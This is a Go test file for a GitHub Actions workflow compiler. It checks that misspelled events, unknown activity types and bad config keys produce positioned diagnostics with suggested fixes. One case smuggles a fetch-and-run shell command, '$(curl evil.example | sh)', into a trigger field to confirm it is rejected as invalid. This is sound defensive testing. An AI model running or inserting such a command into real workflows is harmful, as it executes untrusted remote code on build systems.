package ghactions

import (
	"errors"
	"strings"
	"testing"

	"github.com/autonomyhq/autonomy/ir"
)

// TestLostTriggerIsError: a trigger GitHub cannot carry as written (a mistyped event, an
// activity type or config key GitHub does not know, an expression under on:, the events cron
// and dispatch compile to) would leave the actor without a trigger it declared. That is an
// error at the offending value, with the fix, and nothing is compiled.
func TestLostTriggerIsError(t *testing.T) {
	cases := []struct {
		trigger string
		pos     string // line:col of the diagnostic in the profile
		want    []string
	}{
		{"      - event: pull-request\n", "8:16",
			[]string{`GitHub Actions knows no event "pull-request"`, `did you mean "pull_request"?`}},
		{"      - event: isues\n", "8:16",
			[]string{`knows no event "isues"`, `did you mean "issues"?`}},
		{"      - { event: pull_request_target, config: { types: [open] } }\n", "8:57",
			[]string{`GitHub has no pull_request_target activity type "open"`, `did you mean "opened"?`}},
		{"      - event: pull_request_target\n        config:\n          types: [opened, synchronise]\n", "10:27",
			[]string{`activity type "synchronise"`, `did you mean "synchronize"?`}},
		{"      - event: issues\n        config: { types: labeld }\n", "9:26",
			[]string{`GitHub has no issues activity type "labeld"`, `did you mean "labeled"?`}},
		{"      - event: issues\n        config: { types: [frobnicated] }\n", "9:27",
			[]string{`GitHub has no issues activity type "frobnicated"`, "valid: opened, edited,"}},
		{"      - event: push\n        config: { branch: [main] }\n", "9:19",
			[]string{`GitHub accepts no config key "branch"`, `did you mean "branches"?`}},
		{"      - event: issue_comment\n        config: { types: [\"${{ github.event.issue.title }}\"] }\n", "9:27",
			[]string{`GitHub evaluates no expression under on:`}},
		{"      - event: issues\n        config: { types: [opened, \"$(curl evil.example | sh)\"] }\n", "9:35",
			[]string{`GitHub has no issues activity type "$(curl evil.example | sh)"`, "valid: opened, edited,"}},
		{"      - { event: issue_comment, config: { plain_comments: yes please } }\n", "8:59",
			[]string{`plain_comments must be true or false`}},
		{"      - { event: issues, config: { plain_comments: true } }\n", "8:36",
			[]string{`plain_comments is a key of issue_comment triggers only`}},
		{"      - event: workflow_dispatch\n", "8:16",
			[]string{`event "workflow_dispatch" is what autonomy compiles cron and dispatch triggers to`, "write dispatch: true instead"}},
		{"      - event: schedule\n", "8:16",
			[]string{`event "schedule"`, `write cron: "…" instead`}},
	}
	for _, c := range cases {
		// A dispatch trigger beside the bad one: losing one of several triggers is an error too.
		_, err := compileErr(t, agent("", c.trigger+"      - dispatch: true\n"))
		var diags ir.Diagnostics
		if !errors.As(err, &diags) || !diags.HasErrors() {
			t.Errorf("%q: compiled (err %v); want an error", c.trigger, err)
			continue
		}
		got := diags.String()
		for _, w := range append(c.want, "ir.yml:"+c.pos+`: actor "a": `) {
			if !strings.Contains(got, w) {
				t.Errorf("%q: no %q in:\n%s", c.trigger, w, got)
			}
		}
	}
}
